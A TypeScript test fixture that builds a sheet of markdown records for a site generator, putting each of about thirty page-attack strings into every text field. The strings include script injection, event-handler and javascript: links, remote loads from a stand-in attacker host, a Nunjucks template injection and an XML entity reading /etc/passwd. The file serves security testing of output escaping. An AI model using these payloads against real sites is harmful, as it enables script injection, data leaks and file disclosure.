/** Attacks on pages, and a sheet that has each of them in every field that takes text. */

/** An attack and what it would do. Each sets `data-ran` on the page, asks another host, or opens a dialog. */
export const PAYLOADS: readonly (readonly [name: string, text: string])[] = [
  ["script", "<script>document.documentElement.dataset.ran=1</script>"],
  ["script of another host", "<script src=//evil.example/x.js></script>"],
  ["closing a script", "</script><script>alert(1)</script>"],
  ["image handler", "<img src=x onerror=alert(1)>"],
  ["drawing handler", "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>"],
  ["double quotation mark", '" onmouseover="alert(1)" autofocus onfocus="alert(1)" x="'],
  ["single quotation mark", "' onmouseover='alert(1)' autofocus onfocus='alert(1)' x='"],
  ["backtick", "` onfocus=alert(1) autofocus `"],
  ["closing the title", "</title></style></textarea></template><script>alert(1)</script>"],
  ["closing a comment", "--><script>alert(1)</script><!--"],
  [
    "frame",
    '<iframe src="javascript:alert(1)" srcdoc="<script>parent.alert(1)</script>"></iframe>',
  ],
  [
    "form",
    '<form action=https://evil.example/><button formaction="javascript:alert(1)">x</button>',
  ],
  ["base", "<base href=https://evil.example/>"],
  ["refresh", '<meta http-equiv=refresh content="0;url=https://evil.example/">'],
  [
    "style sheet",
    "<style>@import url(https://evil.example/x.css);*{background:url(https://evil.example/x)}</style>",
  ],
  ["style", '" style="background:url(https://evil.example/x);position:fixed;inset:0'],
  [
    "link",
    "[x](javascript:alert(1)) <javascript:alert(1)> [y](data:text/html,<script>alert(1)</script>)",
  ],
  [
    "encoded link",
    "[x](java&#115;cript:alert&#40;1&#41;) [y](&#1;javascript:alert(1)) [z](\\javascript:alert(1))",
  ],
  [
    "remote image",
    "![x](https://evil.example/pixel.png) ![y](//evil.example/p.png) ![z](data:image/svg+xml,<svg/onload=alert(1)>)",
  ],
  ["reference", "[x][a]\n\n[a]: javascript:alert(1) 'x\" onclick=\"alert(1)'"],
  ["title of a link", '[x](https://wend.example/ "\' onclick=alert(1) \\" onclick=alert(1)")'],
  ["fence", '```"><img/src=x/onerror=alert(1)>\nx\n```'],
  [
    "Nunjucks",
    "{{ range.constructor(\"return process\")().exit(1) }}{% include '/etc/passwd' %}{{ 7*7 }}",
  ],
  ["Nunjucks safe", "{% raw %}{{ '<script>alert(1)</script>' | safe }}{% endraw %}{# x #}"],
  ["Liquid and template literals", "{%- assign a = 1 -%} #{alert(1)} <%= alert(1) %> [[alert(1)]]"],
  ["JSON", '"}]}</script><script>alert(1)</script>{"a":[{"b":"'],
  ["JSON escape", '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e \\"},alert(1),{\\"'],
  [
    "character references",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &#x202E;",
  ],
  [
    "custom element",
    "<x-y onclick=alert(1) tabindex=1 id=main></x-y><a id=search name=matrix></a>",
  ],
  [
    "XML",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script><![CDATA[ <!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
  ],
];

/** The keys of each kind of file that take any text; the other keys it needs; and whether its body is shown. */
const RECORDS: readonly {
  readonly folder: string;
  readonly name: string;
  readonly fields: readonly string[];
  readonly keys: string;
}[] = [
  {
    folder: "actors",
    name: "actor",
    fields: ["name", "summary", "aliases.", "speaksFor.as"],
    keys: "kind: person\nrole: other\n",
  },
  { folder: "issues", name: "issue", fields: ["title", "question"], keys: "order: 7\n" },
  {
    folder: "sources",
    name: "source",
    fields: ["title", "publisher", "author"],
    keys: "published: 2001-03-02\ntype: report\nurl: https://wend.example/log?a=%22%3Cx&b='\n",
  },
  { folder: "pages", name: "page", fields: ["title", "summary"], keys: "" },
  ...(
    [
      ["position", "stance: conditional\n", ["if"]],
      ["demand", "to: lower-wend\ndeadline: 2001-03-04\n", ["otherwise"]],
      ["offer", "to: lower-wend\n", ["if"]],
      ["claim", "", []],
      ["event", "", ["place"]],
      ["absence", "searched: 2001-03-04\n", ["in"]],
    ] as const
  ).map(([kind, keys, own]) => ({
    folder: "facts",
    name: kind,
    fields: ["says", "quote.text", "quote.where", "quote.translation", "corrections.note", ...own],
    keys: `kind: ${kind}\n${keys}date: 2001-03-02\n`,
  })),
];

/** Every field that an attack is put into, as `kind.field`. */
export const FIELDS: readonly string[] = [
  ...RECORDS.flatMap(({ name, fields }) => [...fields, "body"].map((field) => `${name}.${field}`)),
  ...["title", "question", "summary", "contact", "body"].map((field) => `site.${field}`),
];

/**
 * The files of a sheet in which every attack stands in every field, each record numbered. Of the kinds of
 * fact, whose fields are shown alike, each attack is put in two, unless all are asked for.
 */
export function payloadFiles(inAllKinds: boolean): Record<string, string> {
  const files: Record<string, string> = {};
  for (const [index, [, payload]] of PAYLOADS.entries()) {
    const text = JSON.stringify(payload);
    for (const [position, { folder, name, fields, keys }] of RECORDS.entries()) {
      if (folder === "facts" && !inAllKinds && position % 3 !== index % 3) continue;
      files[`${folder}/${name}-x${index}.md`] =
        `---\n${keys}${fields.map((field) => fieldOf(field, text)).join("")}${referencesOf(folder, index)}---\n${payload}\n`;
    }
  }
  const together = JSON.stringify(PAYLOADS.map(([, payload]) => payload).join(" "));
  files["site.md"] =
    `---\ntitle: ${together}\nquestion: ${together}\nsummary: ${together}\ncontact: ${together}\n---\n${PAYLOADS.map(([, payload]) => payload).join("\n\n")}\n`;
  return files;
}

function fieldOf(field: string, text: string): string {
  const [key, inner] = field.split(".");
  if (key === "quote")
    return inner === "text"
      ? `quote:\n  language: fr\n  translator: ours\n  text: ${text}\n`
      : `  ${inner}: ${text}\n`;
  if (key === "aliases") return `aliases: [${text}]\n`;
  if (key === "speaksFor") return `speaksFor:\n  - actor: upper-wend\n    as: ${text}\n`;
  if (key === "corrections") return `corrections:\n  - date: 2001-03-03\n    note: ${text}\n`;
  return `${key}: ${text}\n`;
}

function referencesOf(folder: string, index: number): string {
  if (folder !== "facts") return "";
  return `by: actor-x${index}\nissue: issue-x${index}\nsource: source-x${index}\n`;
}
